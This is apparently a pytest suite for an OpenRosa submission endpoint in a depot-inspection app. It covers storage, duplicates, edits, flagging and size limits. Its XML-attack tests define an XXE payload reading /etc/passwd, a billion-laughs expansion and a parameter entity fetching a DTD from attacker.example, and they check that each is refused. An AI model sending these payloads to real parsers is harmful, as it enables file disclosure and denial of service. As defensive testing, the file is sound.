"""Submissions as ODK Collect posts them, through ODK Central's decision table; XML attacks and
oversize bodies get a clear 4xx and leave nothing written."""

import os
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from sqlalchemy import func, select

from server.db import db
from server.models import AuditEvent, Finding, OpIncident, Submission
from tests.collect import jpeg, new_instance_id

RESPONSE = "{http://openrosa.org/http/response}"
VISIT = {"start": "2026-11-25T09:00:00.000+01:00", "end": "2026-11-25T09:40:00.000+01:00",
         "depot": "NMY", "visit_type": "routine_internal", "people_present": "Adj. Issa",
         "position": "13.51 2.11 210.0 4.0"}


@pytest.fixture
def visit(world):
    """The visit header's answers, its inspector a user of the country."""
    return {**VISIT, "inspectors": str(world.users["inspector"])}


def message(r):
    root = fromstring(r.data)
    assert root.tag == f"{RESPONSE}OpenRosaResponse"
    return root[0].get("nature"), root[0].text


def submissions(app):
    with app.app_context():
        return {s.instance_id: s for s in db.session.scalars(select(Submission))}


def tmp_files(app) -> list[str]:
    folder = Path(app.instance_path) / "tmp" / "openrosa"
    return [str(p) for p in folder.rglob("*")] if folder.exists() else []


def test_head_submission_is_204_with_the_openrosa_headers(collect):
    r = collect.client.head(collect.base + "/submission")
    assert r.status_code == 204
    assert r.headers["X-OpenRosa-Accept-Content-Length"] == "10485760"
    assert r.headers["X-OpenRosa-Version"] == "1.0" and "Date" in r.headers


def test_a_new_instance_is_stored(collect, app, visit):
    iid = new_instance_id()
    r = collect.send(collect.fill("visit_header", visit, instance_id=iid))
    assert r.status_code == 201
    assert message(r) == ("submit_success", "Submission received.")
    sub = submissions(app)[iid]
    assert (sub.form_id, sub.source, sub.status.value, sub.depot.code, sub.visit_type) == (
        "visit_header", "openrosa", "accepted", "NMY", "routine_internal")
    assert sub.started_at.isoformat() == "2026-11-25T08:00:00+00:00"
    assert sub.answers["people_present"] == "Adj. Issa" and sub.raw.startswith("<?xml")
    assert tmp_files(app) == []


def test_the_same_xml_again_is_answered_as_before(collect, app, visit):
    xml = collect.fill("visit_header", visit)
    first, again = collect.send(xml), collect.send(xml)
    assert (first.status_code, again.status_code) == (201, 201)
    assert message(again) == ("submit_success", "Submission already received.")
    assert len(submissions(app)) == 1


def test_the_same_instance_id_with_other_xml_is_409_and_recorded(collect, app, visit):
    iid = new_instance_id()
    collect.send(collect.fill("visit_header", visit, instance_id=iid))
    r = collect.send(collect.fill("visit_header", {**visit, "people_present": "Someone else"},
                                  instance_id=iid))
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (
        409, "sync.submission_mismatch")
    assert message(r)[0] == "error"
    assert submissions(app)[iid].answers["people_present"] == "Adj. Issa"
    with app.app_context():
        assert db.session.scalar(select(func.count(OpIncident.id)).where(
            OpIncident.kind == "submission_mismatch")) == 1


def test_an_edit_replaces_the_earlier_version(collect, app, visit):
    old = new_instance_id()
    collect.send(collect.fill("visit_header", visit, instance_id=old))
    new = new_instance_id()
    r = collect.send(collect.fill("visit_header", {**visit, "people_present": "Adj. Ali"},
                                  instance_id=new, deprecated_id=old))
    assert r.status_code == 201
    subs = submissions(app)
    assert (subs[old].status.value, subs[old].replaced_by) == ("replaced", new)
    assert (subs[new].deprecated_id, subs[new].status.value) == (old, "accepted")


@pytest.mark.parametrize(("xml", "code"), [
    (b"<?xml version='1.0' ?><data id='visit_header'><inspectors>x</inspectors></data>",
     "openrosa.no_instance_id"),
    (b"<?xml version='1.0' ?><data id='visit_header'><meta><instanceID/></meta></data>",
     "openrosa.no_instance_id"),
    (b"<data><meta><instanceID>uuid:x</instanceID></meta></data>", "openrosa.invalid_xml"),
    (b"<data id='x'><unclosed></data>", "openrosa.invalid_xml"),
    (b"\xff\xfe<\x00d\x00", "openrosa.invalid_xml"),
], ids=["no instanceID", "empty instanceID", "no form id", "not well-formed", "not XML"])
def test_a_submission_that_cannot_be_read_is_refused(collect, app, xml, code):
    r = collect.send(xml)
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (400, code)
    assert message(r)[0] == "error"
    assert submissions(app) == {} and tmp_files(app) == []


def test_a_body_without_the_xml_part_is_refused(collect):
    r = collect.client.post(collect.base + "/submission", data={"note": "hello"},
                            content_type="multipart/form-data")
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (400, "openrosa.no_xml")
    r = collect.client.post(collect.base + "/submission", data=b"<data/>",
                            content_type="text/xml")
    assert r.status_code == 400


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<data id="visit_header"><inspectors>&e;</inspectors>
<meta><instanceID>uuid:0b7c3f0e-1111-4222-8333-000000000001</instanceID></meta></data>"""
LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1
                                                      else b"&lol;") * 10)
                     for n in range(1, 10))
          + b']><data id="visit_header"><inspectors>&lol9;</inspectors><meta><instanceID>'
            b'uuid:0b7c3f0e-1111-4222-8333-000000000002</instanceID></meta></data>')
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<data id="visit_header"><meta><instanceID>uuid:p</instanceID></meta></data>"""


@pytest.mark.parametrize("xml", [XXE, LAUGHS, PARAMETER_ENTITY],
                         ids=["external entity", "billion laughs", "parameter entity"])
def test_xml_entity_attacks_get_400_and_nothing_is_written(collect, app, xml):
    r = collect.send(xml, {"a.jpg": jpeg()})
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (400, "openrosa.invalid_xml")
    nature, text = message(r)
    assert nature == "error" and "root:" not in text
    assert submissions(app) == {} and tmp_files(app) == []


def test_oversize_xml_is_400_and_an_oversize_body_413(collect, app, visit):
    app.config.update(OPENROSA_MAX_XML_BYTES=4096, OPENROSA_MAX_BODY_BYTES=200_000)
    big = collect.fill("visit_header", {**visit, "people_present": "x" * 5000})
    r = collect.send(big)
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (400, "openrosa.invalid_xml")
    r = collect.send(collect.fill("visit_header", visit), {"big.jpg": os.urandom(300_000)})
    assert (r.status_code, r.headers["X-Depotsync-Error"]) == (413, "payload_too_large")
    assert submissions(app) == {} and tmp_files(app) == []


def test_answers_breaking_the_form_are_stored_and_flagged_never_refused(collect, app, visit):
    answers = {"start": visit["start"], "depot": "NMY", "fence_intact": "no",
               "gates_locked": "maybe", "guards_present": "yes", "guards_count": "-3"}
    iid = new_instance_id()
    r = collect.send(collect.fill("security_check", answers, instance_id=iid))
    assert r.status_code == 201
    sub = submissions(app)[iid]
    assert sub.status.value == "flagged"
    found = {(p["field"], p["problem"]) for p in sub.problems}
    assert ("fence_intact_comment", "required") in found
    assert ("fence_intact_photo", "required") in found
    assert ("gates_locked", "not one of the choices") in found
    assert ("guards_count", "breaks the question's constraint") in found
    assert ("clear_zone", "required") in found  # unanswered items
    with app.app_context():
        finding = db.session.scalar(select(Finding))
        assert (finding.item, finding.section, finding.severity) == (
            "fence_intact", "perimeter", "major")


def test_a_clean_checklist_makes_findings_from_each_no(collect, app, visit):
    from forms.sources.visit import F1_ITEMS

    answers = {"start": visit["start"], "end": visit["end"], "depot": "NMY",
               "visit": "4f0d2c1e-visit", "guards_count": "4", "security_plan_date": "2025-03-01",
               "risk_assessment_date": "2025-04-01", "alarm_test_date": "2026-10-01",
               "last_key_inventory": "2026-09-30"}
    for _group, name, *_ in F1_ITEMS:
        answers[name] = "yes"
    answers.update(alarm_fitted="no", alarm_fitted_comment="No alarm in B2",
                   alarm_fitted_photo="b2.jpg", access_log_photo="log.jpg")
    iid = new_instance_id()
    assert collect.send(collect.fill("security_check", answers, instance_id=iid)
                        ).status_code == 201
    sub = submissions(app)[iid]
    assert (sub.status.value, sub.problems) == ("accepted", [])
    assert sorted(a.name for a in sub.attachments) == ["b2.jpg", "log.jpg"]
    with app.app_context():
        finding = db.session.scalar(select(Finding))
        assert (finding.item, finding.text, finding.severity, len(finding.photos)) == (
            "alarm_fitted", "No alarm in B2", "major", 1)
        # its finding is audited with the submission, on the depot's chain alone: a checklist
        # takes no lock on the country's chain, which every depot's pushes share
        events = db.session.execute(select(AuditEvent.action, AuditEvent.chain,
                                           AuditEvent.details)
                                    .where(AuditEvent.at >= sub.received_at)).all()
        assert [(a, c) for a, c, _ in events] == [("submission.accept", f"d:{sub.depot_id}")]
        assert events[0].details["ops"] == {"applied": 1}
    assert app.test_cli_runner().invoke(args=["audit", "verify"]).exit_code == 0


def test_unknown_forms_and_versions_are_stored_and_flagged(collect, app, visit):
    iid = new_instance_id()
    xml = (b"<?xml version='1.0' ?><tutorial id='tutorial'><name>Larry</name>"
           b"<picture>1333604907194.jpg</picture><weight>12.5</weight><g><clip>a.m4a</clip>"
           b"<when>2026-11-25T10:15:00.000+01:00</when><ratio>0.75</ratio></g>"
           b"<meta><instanceID>" + iid.encode() + b"</instanceID></meta></tutorial>")
    assert collect.send(xml).status_code == 201
    sub = submissions(app)[iid]
    assert sub.status.value == "flagged"
    assert "no published form has this ID" in {p["problem"] for p in sub.problems}
    # file names only: 12.5, 0.75 and timestamps are answers, not photos still expected
    assert sorted(a.name for a in sub.attachments) == ["1333604907194.jpg", "a.m4a"]
    iid = new_instance_id()
    xml = collect.fill("visit_header", visit, instance_id=iid).replace(
        b'version="2026120101"', b'version="1999"')
    assert collect.send(xml).status_code == 201
    assert submissions(app)[iid].problems[0]["problem"] == "not a published version of this form"


def test_an_older_version_keeps_accepting_and_is_checked_by_its_own_rules(collect, app, visit):
    from tests.http.test_openrosa_lists import republish

    old_xml = collect.fill("visit_header", visit)
    republish(app, "visit_header", "2026120201")
    r = collect.send(old_xml)
    assert r.status_code == 201
    (sub,) = submissions(app).values()
    assert (sub.form_version, sub.status.value) == ("2026120101", "accepted")


@pytest.mark.parametrize(("depot", "filed_at"), [("ZDR", "NE-ZDR"), ("KDN", None)],
                         ids=["same country", "another country"])
def test_a_depot_outside_the_devices_scope_is_stored_flagged(collect, app, world, visit,
                                                             depot, filed_at):
    """Finalized before a scope change: kept for the depot's reviewers, never linked to
    another country's data, and answered alike either way."""
    iid = new_instance_id()
    r = collect.send(collect.fill("visit_header", {**visit, "depot": depot}, instance_id=iid))
    assert r.status_code == 201, r.data
    sub = submissions(app)[iid]
    assert sub.status.value == "flagged" and sub.visit_id is None
    assert {"field": "depot", "problem": "depot outside the sender's scope",
            "value": depot} in sub.problems
    assert sub.depot_id == (world.depots[filed_at] if filed_at else None)


def test_a_phone_whose_user_may_not_submit_gets_nothing(client, world, published):
    from tests.collect import Collect

    reviewer = Collect(client, world.tokens["reviewer"])
    for r in (reviewer.get("/formList"), reviewer.get("/forms/crate_count/attachments/crates.csv"),
              client.post(f"/key/{world.tokens['reviewer']}/submission")):
        assert (r.status_code, r.headers["X-Depotsync-Error"]) == (403, "auth.forbidden")


def test_the_json_door_checks_answers_against_the_published_form(client, world, published):
    from tests.http.sync_helpers import bearer

    body = {"instance_id": "uuid:json-1", "form_id": "visit_header",
            "form_version": published["visit_header"][0], "depot": "NMY",
            "answers": {"depot": "NMY", "visit_type": "picnic"}}
    r = client.post("/api/v1/submissions", json=body, headers=bearer(world))
    assert r.status_code == 201 and r.json["status"] == "flagged"
    assert {(p["field"], p["problem"]) for p in r.json["problems"]} == {
        ("visit_type", "not one of the choices"), ("inspectors", "required")}
    body.update(instance_id="uuid:json-2", form_version="0")
    r = client.post("/api/v1/submissions", json=body, headers=bearer(world))
    assert r.json["problems"][0]["problem"] == "not a published version of this form"


def test_split_posts_and_retries_of_the_whole_set_make_one_submission(collect, world, app, visit):
    """Collect sends a photo-heavy instance in several POSTs of the same XML, all but the last
    marked *isIncomplete*, and after a cut sends the whole set again."""
    from server.models import AppliedOp, Finding

    answers = {"start": visit["start"], "depot": "NMY", "fence_intact": "no",
               "fence_intact_comment": "hole", "fence_intact_photo": "fence.jpg",
               "gates_locked": "no", "gates_locked_comment": "open",
               "gates_locked_photo": "gate.jpg"}
    iid = new_instance_id()
    xml = collect.fill("security_check", answers, instance_id=iid)
    for _ in range(3):
        first = collect.send(xml, {"fence.jpg": jpeg()}, incomplete=True)
        last = collect.send(xml, {"gate.jpg": jpeg(color=(1, 2, 3))})
        assert (first.status_code, last.status_code) == (201, 201)
    (sub,) = submissions(app).values()
    assert sorted(a.name for a in sub.attachments) == ["fence.jpg", "gate.jpg"]
    with app.app_context():
        assert db.session.scalar(select(func.count(Finding.id))) == 2
        assert db.session.scalar(select(func.count(AppliedOp.id))) == 2
    assert tmp_files(app) == []
